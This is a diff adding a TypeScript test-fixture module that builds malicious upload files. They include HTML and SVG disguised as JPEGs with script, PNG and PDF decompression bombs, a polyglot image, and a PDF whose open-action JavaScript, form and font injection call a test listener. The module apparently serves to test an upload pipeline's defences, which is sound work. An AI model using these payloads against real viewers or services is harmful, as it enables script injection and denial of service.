@@ -1,0 +1,145 @@
+import { deflateSync } from 'node:zlib'
+import type { FileToSend } from './sender.ts'
+
+/** Files that are not what they say, or worse. All made here; each is small. */
+
+const text = (content: string) => new TextEncoder().encode(content)
+
+export function htmlCalledJpg(): FileToSend {
+  return {
+    name: 'wound.jpg',
+    mediaType: 'image/jpeg',
+    bytes: text(
+      '<!doctype html><script>parent.postMessage("out","*");location="http://127.0.0.1:9/"</script>',
+    ),
+  }
+}
+
+export function svgCalledJpg(): FileToSend {
+  return {
+    name: 'scan.jpg',
+    mediaType: 'image/jpeg',
+    bytes: text(
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://127.0.0.1:9/\')"><script>alert(1)</script></svg>',
+    ),
+  }
+}
+
+/** Begins as a JPEG and is noise after that. */
+export function brokenJpeg(): FileToSend {
+  const bytes = new Uint8Array(20_000).map((_, at) => (at * 7919) % 256)
+  bytes.set([0xff, 0xd8, 0xff, 0xe0])
+  return { name: 'broken.jpg', mediaType: 'image/jpeg', bytes }
+}
+
+/** A few kilobytes that would be 3.6 GB once decoded. */
+export function pictureBomb(): FileToSend {
+  const [width, height] = [30_000, 30_000]
+  const header = new DataView(new ArrayBuffer(13))
+  header.setUint32(0, width)
+  header.setUint32(4, height)
+  header.setUint8(8, 1)
+  const rows = Buffer.alloc((width / 8 + 1) * 400)
+  return {
+    name: 'bomb.png',
+    mediaType: 'image/png',
+    bytes: Buffer.concat([
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+      pngPart('IHDR', Buffer.from(header.buffer)),
+      pngPart('IDAT', deflateSync(rows)),
+      pngPart('IEND', Buffer.alloc(0)),
+    ]),
+  }
+}
+
+function pngPart(name: string, content: Buffer): Buffer {
+  const head = Buffer.alloc(4)
+  head.writeUInt32BE(content.length)
+  const named = Buffer.concat([Buffer.from(name), content])
+  const check = Buffer.alloc(4)
+  check.writeUInt32BE(crc32(named))
+  return Buffer.concat([head, named, check])
+}
+
+function crc32(bytes: Buffer): number {
+  let crc = -1
+  for (const byte of bytes) {
+    crc ^= byte
+    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1
+  }
+  return ~crc >>> 0
+}
+
+export function brokenPdf(): FileToSend {
+  return { name: 'broken.pdf', mediaType: 'application/pdf', bytes: text('%PDF-1.7\nthis is all there is') }
+}
+
+/** Asks for a password nobody has. */
+export function lockedPdf(): FileToSend {
+  const noise = '0123456789abcdef'.repeat(4)
+  const encrypt = `5 0 obj<</Filter/Standard/V 1/R 2/Length 40/P -4/O<${noise}>/U<${noise}>>>endobj`
+  return pdf('locked.pdf', [PAGES, ONE_PAGE, encrypt], '/Encrypt 5 0 R/ID[<00><00>]')
+}
+
+/** Everything in it that would act: script when it opens, links, a form that submits, a font with code in its matrix. */
+export function activePdf(listener: string): FileToSend {
+  const font = `6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix[1 2 3 4 5 (0\\); fetch\\('${listener}/font'\\)//)]/FirstChar 0/LastChar 1/Widths[500 500]>>endobj`
+  const page =
+    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 6 0 R>>>>/Annots[7 0 R]>>endobj'
+  const link = `7 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(${listener}/link)>>>>endobj`
+  const content = stream(4, 'BT /F1 24 Tf 20 150 Td (Active) Tj ET')
+  const catalog = `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('${listener}/script');this.submitForm('${listener}/form'))>>/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>>>endobj`
+  return pdf('active.pdf', [PAGES, page, content, font, link], '', catalog)
+}
+
+/** Promises a million pages. */
+export function endlessPdf(): FileToSend {
+  return pdf('endless.pdf', ['2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1000000>>endobj', ONE_PAGE])
+}
+
+/** A small stream that unpacks into a hundred megabytes of drawing. */
+export function pdfBomb(): FileToSend {
+  const packed = deflateSync(Buffer.alloc(100 * 1024 * 1024, '0 0 m 9 9 l S '))
+  const content = Buffer.concat([
+    Buffer.from(`4 0 obj<</Length ${packed.length}/Filter/FlateDecode>>stream\n`),
+    packed,
+    Buffer.from('\nendstream endobj'),
+  ])
+  return pdf('bomb.pdf', [PAGES, ONE_PAGE, content])
+}
+
+/** A picture that goes on as a web page and as a document: the first bytes decide. */
+export function pictureAndMore(picture: FileToSend): FileToSend {
+  const more = Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), brokenPdf().bytes])
+  return { ...picture, name: 'both.jpg', bytes: Buffer.concat([picture.bytes, more]) }
+}
+
+export function nothing(): FileToSend {
+  return { name: 'empty.jpg', mediaType: 'image/jpeg', bytes: new Uint8Array(0) }
+}
+
+const CATALOG = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj'
+const PAGES = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj'
+const ONE_PAGE = '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R>>endobj'
+
+function stream(number: number, content: string): string {
+  return `${number} 0 obj<</Length ${content.length}>>stream\n${content}\nendstream endobj`
+}
+
+/** No cross-reference table: pdf.js finds the objects by itself, as it must for half of the PDFs in the world. */
+function pdf(name: string, objects: (string | Buffer)[], trailer = '', catalog = CATALOG): FileToSend {
+  const parts = [
+    '%PDF-1.7\n',
+    catalog,
+    '\n',
+    ...objects.flatMap((object) => [object, '\n']),
+    `trailer<</Root 1 0 R${trailer}>>\n%%EOF`,
+  ]
+  return {
+    name,
+    mediaType: 'application/pdf',
+    bytes: Buffer.concat(
+      parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
+    ),
+  }
+}
